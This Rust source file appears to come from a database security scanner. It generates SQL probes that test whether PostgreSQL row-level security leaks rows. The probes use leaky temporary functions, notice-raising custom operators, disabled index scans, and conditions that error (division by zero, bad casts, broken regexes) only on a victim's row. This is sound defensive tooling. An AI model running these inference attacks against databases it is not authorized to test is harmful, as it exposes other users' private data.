//! Inference: conditions that reveal the rows that they are evaluated on.

use super::collisions::LEAK;
use crate::catalog::Column;
use crate::checks::attacks::runner::context::{ATTACKER, Subject};
use crate::checks::attacks::runner::{Context, Control, Probe};
use crate::error::CannotRun;
use crate::platform::persona::Persona;
use crate::sql::ident;

type Probes = Result<Vec<Probe>, CannotRun>;

/// The attacker can disable the plans that read only matching rows.
const LOOK_AT_ALL: &str = "set local enable_indexscan = off";
const NO_BITMAP: &str = "set local enable_bitmapscan = off";

/// I03: by itself, beside another condition, and in a join.
pub(super) fn functions(context: &Context<'_>) -> Probes {
    let mut probes = Vec::new();
    for subject in context.secret_relations(&context.attacker) {
        let (list, table) = (subject.select_list(), subject.relation.qualified());
        let readable = subject.readable();
        let some = [readable.first(), readable.get(readable.len() / 2)].into_iter().flatten();
        let leak: Vec<String> =
            some.map(|column| format!("pg_temp.identra_leak(r.{})", ident(column))).collect();
        let (leak, victims) =
            (leak.join(" and "), context.aim_at_secret(&subject, &context.attacker)?);
        let alone = [
            format!("select {list} from {table} r where {leak}"),
            format!("select {list} from {table} r where {victims} and {leak}"),
        ];
        let within = [
            format!("select count(*) from (values (1)) one (n) left join {table} r on {leak}"),
            format!(
                "select count(*) from (select {list} from {table} where {victims} \
                 union all select {list} from {table}) r where {leak}"
            ),
        ];
        for (part, queries) in [("where", alone), ("pushed down", within)] {
            let mut script = [LEAK, LOOK_AT_ALL, NO_BITMAP].map(str::to_owned).to_vec();
            script.extend(queries);
            probes.push(context.probe(&subject, part, script)?);
        }
    }
    Ok(probes)
}

/// A readable column with useful statistics: text, else the first.
fn column<'a>(subject: &Subject<'a>) -> Option<&'a Column> {
    let readable = subject.readable();
    let columns = || subject.relation.columns.iter().filter(|c| readable.contains(&&*c.name));
    columns().find(|column| column.data_type == "text").or_else(|| columns().next())
}

/// I04: the attacker's own operator, and those of the schema, on analyzed tables.
pub(super) fn operators(context: &Context<'_>) -> Probes {
    let analyse: Vec<String> = context
        .owned_tables()
        .iter()
        .map(|table| format!("analyze {}", table.relation.qualified()))
        .collect();
    let mut probes = Vec::new();
    for subject in context.secret_relations(&context.attacker) {
        let Some(column) = column(&subject) else { continue };
        let (name, of) = (ident(&column.name), &column.data_type);
        let (list, table) = (subject.select_list(), subject.relation.qualified());
        let own = context.row(subject.name, ATTACKER).and_then(|row| row.literal(&column.name));
        let value = own.map_or_else(|| format!("(null::{of})"), |own| format!("{own}::{of}"));
        let value = if subject.is_view() { view_value(column) } else { value };
        let query = |operator: &str| {
            format!("select {list} from {table} where {name} operator({operator}) {value}")
        };
        let function = format!(
            "create function pg_temp.identra_less({of}, {of}) returns boolean language plpgsql \
             as $f$begin raise notice 'leak: %', $1; return true; end$f$"
        );
        let mut script = vec![function];
        for (operator, estimator) in [("pg_temp.<<<<", "scalarltsel"), ("pg_temp.====", "eqsel")] {
            script.push(format!(
                "create operator {operator} (function = pg_temp.identra_less, leftarg = {of}, \
                 rightarg = {of}, restrict = {estimator})"
            ));
            script.push(query(operator));
        }
        let mut probe = context.probe(&subject, "", script)?;
        probe.setup = own_analyse(&subject, &analyse);
        probes.push(probe);
        for operator in schema_operators(context, of) {
            let part = format!("operator {operator}");
            let mut probe = context.probe(&subject, &part, vec![query(&operator)])?;
            probe.setup = own_analyse(&subject, &analyse);
            probe.control = Control::Nobody("it is the schema's own, and may leak to no role");
            probes.push(probe);
        }
    }
    Ok(probes)
}

fn own_analyse(subject: &Subject<'_>, all: &[String]) -> Vec<String> {
    if subject.is_view() {
        return all.to_vec();
    }
    vec![format!("analyze {}", subject.relation.qualified())]
}

/// A constant to compare a view's column with.
fn view_value(column: &Column) -> String {
    let attacker = ATTACKER.user_id().unwrap_or_default();
    match column.data_type.as_str() {
        "uuid" => format!("'{attacker}'::uuid"),
        "text" => "'m'::text".to_owned(),
        of => format!("'1'::{of}"),
    }
}

/// Operators of the schema for two values of that type.
fn schema_operators(context: &Context<'_>, of: &str) -> Vec<String> {
    let operators = context.catalog.others.iter().filter_map(|other| {
        let (name, types) = other.identity.strip_prefix("operator ")?.split_once('(')?;
        let left = types.split(',').next()?;
        (left.rsplit('.').next() == of.rsplit('.').next()).then(|| name.to_owned())
    });
    operators.collect()
}

/// The part of I05 that is about no row in particular.
const ANY_ROW: &str = "any row";

/// I05: conditions that fail only on the victim's row, and one that fails on any.
pub(super) fn failures(context: &Context<'_>) -> Probes {
    let mut probes = Vec::new();
    for subject in context.secret_relations(&context.attacker) {
        let (list, table) = (subject.select_list(), subject.relation.qualified());
        let first = subject.readable().first().map(|column| ident(column)).unwrap_or_default();
        let victims = context.aim_at_secret(&subject, &context.attacker)?;
        let mut conditions = vec![
            ("division", format!("1 / (case when {victims} then 0 else 1 end) = 1")),
            (
                "cast",
                format!(
                    "(case when {victims} then 'x' || {first}::text else '1' end)::integer = 1"
                ),
            ),
            (
                "pattern",
                format!("'x' ~ (case when {victims} then '(' || {first}::text else 'x' end)"),
            ),
        ];
        // Where plain rows are public, the first that fails is one of them for every role.
        if !context.may_read(&context.attacker, &subject, None) {
            conditions.push((ANY_ROW, format!("('x' || {first}::text)::integer = 1")));
        }
        for (part, condition) in conditions {
            let query = format!("select {list} from {table} where {condition}");
            let script = |query| vec![LOOK_AT_ALL.to_owned(), NO_BITMAP.to_owned(), query];
            let mut probe = context.probe(&subject, part, script(query.clone()))?;
            // The first row that the server looks at may be anybody's.
            if part == ANY_ROW {
                let aimed = script(format!("{query} and {victims}"));
                probe.control = Control::Instead(Persona::ServiceRole.identity(), aimed);
            }
            probes.push(probe);
        }
    }
    Ok(probes)
}
